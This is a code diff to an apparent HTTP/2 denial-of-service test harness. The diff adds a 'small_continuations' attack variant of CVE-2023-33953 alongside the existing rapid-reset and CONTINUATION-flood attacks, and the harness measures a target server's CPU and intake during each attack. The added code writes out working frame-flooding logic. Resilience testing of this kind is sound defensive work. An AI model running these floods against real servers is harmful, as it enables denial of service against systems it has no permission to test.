@@ -11,6 +11,10 @@ ATTACK is one of
   continuation  CVE-2023-33953 style: one HEADERS frame without END_HEADERS, then
                 CONTINUATION frames without end, each full of complete small headers
                 (a header list that never ends).
+  small_continuations
+                CVE-2023-33953's third vector: the same, but each CONTINUATION frame
+                carries ONE header of ~1 KiB, under the 8 KiB metadata limit per frame
+                (1.51 checked the limit per frame, not per header list).
   endless_value CVE-2023-33953 style: one HEADERS frame without END_HEADERS that starts
                 a literal header whose value claims 1 GiB, then CONTINUATION frames
                 carrying that value for ever (a header value that never ends).
@@ -277,15 +281,18 @@ def rapid_reset(port, seconds, max_streams):
     return out
 
 
-def header_flood(port, seconds, max_bytes, endless_value):
-    """HEADERS without END_HEADERS, then CONTINUATION frames (16 KiB each) until the time is up."""
+def header_flood(port, seconds, max_bytes, kind):
+    """HEADERS without END_HEADERS, then CONTINUATION frames until the time is up."""
     c = RawConnection(port)
     start = request_headers_block()
-    if endless_value:
+    if kind == "endless_value":
         # A literal header "x-endless" whose value claims 1 GiB: every frame after this
         # one carries more of a value that never ends.
         start += hpack_int(0, 4, 0x00) + hpack_int(9, 7) + b"x-endless" + hpack_int(1 << 30, 7)
         piece = b"v" * 16384
+    elif kind == "small_continuations":
+        # One complete ~1 KiB header per frame, the frames sent 256 at a time.
+        piece = literal(0, b"v" * 1000, b"x-flood")
     else:
         # Complete small headers, 16 KiB of them per frame: a header list without end.
         one = literal(0, b"v" * 20, b"x-flood")
@@ -294,7 +301,7 @@ def header_flood(port, seconds, max_bytes, endless_value):
     deadline = time.monotonic() + seconds
     got = c.write_some(frame(HEADERS, 0, 1, start), deadline)  # no END_HEADERS, no END_STREAM
     written += got
-    cont = frame(CONTINUATION, 0, 1, piece) * 16
+    cont = frame(CONTINUATION, 0, 1, piece) * (16 if len(piece) > 4096 else 256)
     t0 = deadline - seconds
     per_second = [0] * (int(seconds) + 1)  # bytes the server took in each second
     while time.monotonic() < deadline and written < max_bytes and c.closed_at is None:
@@ -314,7 +321,7 @@ def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--pid", type=int, required=True, help="the server's pid, for /proc")
-    p.add_argument("--attack", required=True, choices=["rapid_reset", "continuation", "endless_value"])
+    p.add_argument("--attack", required=True, choices=["rapid_reset", "continuation", "small_continuations", "endless_value"])
     p.add_argument("--seconds", type=float, default=3.0)
     p.add_argument("--max_streams", type=int, default=10_000_000)
     p.add_argument("--max_bytes", type=int, default=8 << 30)
@@ -345,7 +352,7 @@ def main():
     if a.attack == "rapid_reset":
         attack = rapid_reset(a.port, a.seconds, a.max_streams)
     else:
-        attack = header_flood(a.port, a.seconds, a.max_bytes, endless_value=(a.attack == "endless_value"))
+        attack = header_flood(a.port, a.seconds, a.max_bytes, a.attack)
     attack_wall = time.monotonic() - t0
     cpu_attack = sampler.cpu_seconds() - cpu_before
     prober.stop.set()
